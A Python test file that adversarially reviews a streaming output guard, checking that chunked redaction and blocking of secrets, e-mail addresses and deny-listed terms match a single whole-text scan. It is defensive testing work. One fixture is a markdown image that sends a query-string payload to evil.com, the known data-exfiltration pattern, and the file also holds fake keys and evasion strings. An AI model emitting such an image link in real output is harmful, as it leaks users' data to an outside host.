"""Adversarial review of StreamGuard (src/bastion/services/stream_guard.py): any text, any chunking.

The safety property under test: when no match is longer than the hold-back, a stream releases exactly
the unary scan's redaction (or, when the unary scan blocks, blocks and releases only a prefix of the
text before the first blocked match), never a character of a redacted or blocked match, and records
the unary scan's findings. Regression tests assert what holds today (the defects this review found
are fixed).
"""

from __future__ import annotations

import time
from collections.abc import Sequence
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from bastion.config import GuardSettings
from bastion.detectors.interface import Direction
from bastion.domain.findings import Action
from bastion.services.guard import REDACTION, ActedFinding, GuardService, GuardTarget, redact

from .stream_guard_helpers import feed_all, split, unary_redaction

T = GuardTarget("chat", "m")
FAST = settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
AWS = "AKIAQWERTYUIOPASDFGH"
GHP = "ghp_" + "a1B2c3D4e5" * 4  # 44 characters
EMAIL = "bob@example.com"
DENY = "project zeus"

#: secrets, pii and the deny-list; keys, e-mail addresses and deny-listed terms are redacted
REDACTING: dict[str, Any] = {
    "input": [],
    "output": ["secrets", "pii", "denylist"],
    "options": {"denylist": {"terms": [DENY, "#zeus"]}},
    "rules": [
        {"action": "redact", "detector": "secrets"},
        {"action": "redact", "detector": "pii", "finding_type": "pii.email"},
        {"action": "flag", "detector": "pii"},
        {"action": "redact", "detector": "denylist"},
    ],
}
#: as above, but deny-listed terms block
BLOCKING: dict[str, Any] = {**REDACTING, "rules": [*REDACTING["rules"][:3], {"action": "block"}]}

#: pieces whose every prefix is either no match or the same match (same detector, type and start),
#: joined by a separator no detector reads across: non-ASCII, combining marks, invisible characters
ATOMS = [
    AWS,
    GHP,
    EMAIL,
    DENY,
    "PRO\u200bJECT ZE\u00adUS",  # a deny-listed term with invisible characters inside
    "\ufeffproject\u2060 zeus\u200b",
    "日本語のテキスト",
    "😀🙈",
    "cafe\u0301 na\u0308ive",
    "\u200b\u200b\u200b",
    "plain words here",
    "AKIA",
]
SEP = " | "


def service(guards: dict[str, Any]) -> GuardService:
    return GuardService(GuardSettings(**guards))


def found(acted: Sequence[ActedFinding]) -> list[tuple[str, str, tuple[tuple[int, int], ...], str]]:
    return sorted(
        (a.finding.detector, a.finding.type, tuple((s.start, s.end) for s in a.finding.spans), a.action.value)
        for a in acted
    )


def texts(atoms: Sequence[str] = ATOMS) -> st.SearchStrategy[str]:
    return st.lists(st.sampled_from(atoms), min_size=1, max_size=10).map(SEP.join)


def cuts(text: str, data: st.DataObject, most: int = 15) -> list[int]:
    return data.draw(st.lists(st.integers(1, max(1, len(text) - 1)), max_size=most))


# == regression: properties that hold =============================================================


@FAST
@given(text=texts(), data=st.data())
def test_any_chunking_releases_the_unary_redaction_and_records_its_findings(
    text: str, data: st.DataObject
) -> None:
    """Keys, e-mail addresses and deny-listed terms (invisible characters inside, CJK, emoji and
    combining marks around), cut anywhere: the stream equals the unary scan, text and findings."""
    svc = service(REDACTING)
    g = svc.stream(T)
    out, blocked = feed_all(g, split(text, cuts(text, data)))
    assert not blocked
    assert out == unary_redaction(svc, text)
    assert found(g.result().acted) == found(svc.scan([text], Direction.OUTPUT, T).acted)
    assert AWS not in out and GHP[:8] not in out and EMAIL not in out


@FAST
@given(text=texts(), data=st.data())
def test_empty_chunks_change_nothing(text: str, data: st.DataObject) -> None:
    svc = service(REDACTING)
    pieces = [q for p in split(text, cuts(text, data)) for q in ("", p, "")]
    out, blocked = feed_all(svc.stream(T), pieces)
    assert not blocked
    assert out == unary_redaction(svc, text)


@FAST
@given(text=texts(), data=st.data())
def test_a_blocked_term_stops_the_stream_before_any_of_it_leaves(text: str, data: st.DataObject) -> None:
    """When the unary scan blocks, the stream blocks, and what left is a prefix of the (redacted) text
    before the first blocked match."""
    svc = service(BLOCKING)
    unary = svc.scan([text], Direction.OUTPUT, T)
    g = svc.stream(T)
    out, blocked = feed_all(g, split(text, cuts(text, data)))
    if not unary.blocked:
        assert not blocked and out == unary_redaction(svc, text)
        return
    assert blocked
    first = min(a.finding.spans[0].start for a in unary.acted if a.action is Action.BLOCK)
    redacted = [s for a in unary.acted if a.action is Action.REDACT for s in a.finding.spans]
    assert redact(text[:first], redacted).startswith(out)
    assert set(found(g.result().acted)) <= set(found(unary.acted))


@FAST
@given(a=texts(), b=texts(), data=st.data())
def test_interleaved_channels_are_each_guarded_on_their_own(a: str, b: str, data: st.DataObject) -> None:
    svc = service(REDACTING)
    g = svc.stream(T)
    pa, pb = split(a, cuts(a, data)), split(b, cuts(b, data))
    order = data.draw(st.permutations([*(["0"] * len(pa)), *(["1:tool:0"] * len(pb))]))
    queues = {"0": list(pa), "1:tool:0": list(pb)}
    got = {"0": "", "1:tool:0": ""}
    for channel in order:
        step = g.feed(channel, queues[channel].pop(0))
        assert not step.blocked
        got[channel] += step.text
    for name, step in g.finish().items():
        got[name] += step.text
    assert got == {"0": unary_redaction(svc, a), "1:tool:0": unary_redaction(svc, b)}


def test_finishing_a_choice_releases_only_its_own_channels() -> None:
    svc = service(REDACTING)
    g = svc.stream(T)
    for name in ("1", "1:tool:0", "10", "2:tool:1"):
        assert g.feed(name, f"text of {name} {AWS} end").text == ""  # all of it is held back
    released = g.finish("1")
    assert {k: v.text for k, v in released.items()} == {
        "1": f"text of 1 {REDACTION} end",
        "1:tool:0": f"text of 1:tool:0 {REDACTION} end",
    }
    rest = g.finish()
    assert sorted(rest) == ["10", "2:tool:1"]
    assert rest["10"].text == f"text of 10 {REDACTION} end"


@pytest.mark.parametrize("at", range(1, 25))
def test_adjacent_matches_of_two_detectors_leave_as_one_marker(at: int) -> None:
    """A key and a deny-listed term that touch: one [REDACTED], as the unary scan, at any split."""
    svc = service(REDACTING)
    text = f"see {AWS}#zeus now"
    assert unary_redaction(svc, text) == f"see {REDACTION} now"
    cut = text.index(AWS) + at
    out, blocked = feed_all(svc.stream(T), [text[:cut], text[cut:]])
    assert (out, blocked) == (f"see {REDACTION} now", False)


@pytest.mark.parametrize("at", range(1, 30))
def test_overlapping_findings_of_secrets_and_pii_are_masked_as_the_unary_scan(at: int) -> None:
    """A connection string whose password is also an e-mail-like run and a deny-listed term nearby."""
    svc = service(REDACTING)
    text = f"db postgres://admin:S3cr3tPassw0rd@{EMAIL[4:]} and {EMAIL}#zeus ok"
    cut = min(len(text) - 1, 10 + at * 2)
    out, blocked = feed_all(svc.stream(T), [text[:cut], text[cut:]])
    assert not blocked
    assert out == unary_redaction(svc, text)


def test_an_extremely_long_chunk_is_scanned_whole_and_quickly() -> None:
    svc = service(REDACTING)
    text = SEP.join(ATOMS * 150)  # ~25 000 characters, hundreds of findings, in one chunk
    started = time.perf_counter()
    out, blocked = feed_all(svc.stream(T), [text[:-7], text[-7:]])
    assert time.perf_counter() - started < 5
    assert not blocked and out == unary_redaction(svc, text)


@FAST
@given(data=st.data())
def test_the_default_output_guards_match_the_unary_scan(data: st.DataObject) -> None:
    """GuardSettings() defaults (secrets, pii, unsafe_output, canary; redact secrets and e-mail)."""
    svc = GuardService(GuardSettings())
    text = data.draw(texts([AWS, EMAIL, GHP, "hello world", "日本語", "😀", "\u200b", "<b>bold</b>"]))
    g = svc.stream(T)
    out, blocked = feed_all(g, split(text, cuts(text, data)))
    assert not blocked
    assert out == unary_redaction(svc, text)
    assert found(g.result().acted) == found(svc.scan([text], Direction.OUTPUT, T).acted)


def test_flag_only_rules_hold_nothing_back() -> None:
    """Documented: with only allow/flag rules chunks leave as soon as they are scanned."""
    svc = service({**REDACTING, "rules": [], "default_action": "flag"})
    g = svc.stream(T)
    assert g.holdback == 0
    assert g.feed("0", f"key {AWS[:10]}").text == f"key {AWS[:10]}"
    assert g.feed("0", AWS[10:]).text == AWS[10:]
    assert [a.action for a in g.result().acted] == [Action.FLAG]


# == defects the review found (fixed): regression tests =============================================


EXFIL = "![" + "a" * 480 + "](https://evil.com/x?d=" + "Q" * 40 + ") end"


def test_an_exfiltration_image_with_long_alt_text_is_blocked_in_a_stream() -> None:
    svc = GuardService(GuardSettings())
    assert svc.scan([EXFIL], Direction.OUTPUT, T).blocked
    out, blocked = feed_all(svc.stream(T), [EXFIL[:520], EXFIL[520:]])
    assert blocked
    assert "evil.com" not in out


PASSWORD = "password = " + " " * 700 + "'Zx9Qw8Er7Ty6Ui5Op' done"


def test_a_password_after_a_long_whitespace_run_is_redacted_in_a_stream() -> None:
    svc = service({"input": [], "output": ["secrets"]})
    assert unary_redaction(svc, PASSWORD).endswith(f"'{REDACTION}' done")
    out, blocked = feed_all(svc.stream(T), split(PASSWORD, range(10, len(PASSWORD), 10)))
    assert not blocked
    assert "Zx9Qw8Er7Ty6Ui5Op" not in out
    assert out == unary_redaction(svc, PASSWORD)


@pytest.mark.parametrize(
    ("guards", "text", "cut"),
    [
        ({"input": [], "output": ["secrets"]}, f"id {AWS}JK ok", len(f"id {AWS}")),
        ({"input": [], "output": ["pii"]}, "mail bob@example.comZ9 ok", len("mail bob@example.co")),
        ({"input": [], "output": ["pii"]}, "ip 192.168.1.20ZZ ok", len("ip 192.168.1.2")),
    ],
    ids=["aws-key-prefix", "email-prefix", "ip-prefix"],
)
def test_a_redacted_match_cut_at_the_chunk_end_is_judged_again_when_the_text_continues(
    guards: dict[str, Any], text: str, cut: int
) -> None:
    """A match that ends where the chunk ends (\\b at end of string) but that the next chunk undoes is
    neither redacted nor recorded, as in the unary scan."""
    svc = service(guards)
    assert unary_redaction(svc, text) == text
    g = svc.stream(T)
    assert feed_all(g, [text[:cut], text[cut:]]) == (text, False)
    assert g.result().acted == ()


@pytest.mark.parametrize(
    ("guards", "text", "cut"),
    [
        (
            {
                "input": [],
                "output": ["denylist"],
                "options": {"denylist": {"terms": ["zeus"], "whole_word": True}},
            },
            "the zeusx tool",
            len("the zeus"),
        ),
        (
            {"input": [], "output": ["secrets"], "rules": [{"action": "block", "detector": "secrets"}]},
            f"id {AWS}JK ok",
            len(f"id {AWS}"),
        ),
    ],
    ids=["whole-word-term", "blocked-aws-key-prefix"],
)
def test_a_blocking_match_cut_at_the_chunk_end_does_not_block_when_the_text_continues(
    guards: dict[str, Any], text: str, cut: int
) -> None:
    svc = service(guards)
    assert not svc.scan([text], Direction.OUTPUT, T).blocked
    assert feed_all(svc.stream(T), [text[:cut], text[cut:]]) == (text, False)


def test_a_blocked_stream_records_only_findings_of_the_unary_scan() -> None:
    svc = service({"input": [], "output": ["pii", "denylist"], "options": {"denylist": {"terms": ["zeus"]}}})
    text = "ip 192.168.1.20zeus"
    unary = svc.scan([text], Direction.OUTPUT, T)
    g = svc.stream(T)
    assert feed_all(g, ["ip 192.168.1.2", "0zeus"]) == ("", True)
    assert found(g.result().acted) == found(unary.acted)


def test_a_chunk_with_thousands_of_redactions_is_masked_like_the_unary_scan() -> None:
    """(Its cost against the unary scan's is measured in bench/stream_guard_bench.py: it was
    quadratic in the number of redactions.)"""
    svc = service({"input": [], "output": ["secrets"]})
    text = "".join(f"k{i} {AWS} " for i in range(3000))
    out, _ = feed_all(svc.stream(T), [text])
    assert out == unary_redaction(svc, text)


OPENAI_LIKE = "x" + "sk-proj-" + "Ab3dE6gH9jK2mN5pQ8sT" * 40


def test_the_look_behind_start_is_not_taken_for_a_word_boundary() -> None:
    svc = service({"input": [], "output": ["secrets"]})
    text = OPENAI_LIKE
    assert unary_redaction(svc, text) == text
    g = svc.stream(T)
    assert feed_all(g, [text[:513], text[513:]]) == (text, False)
    assert g.result().acted == ()
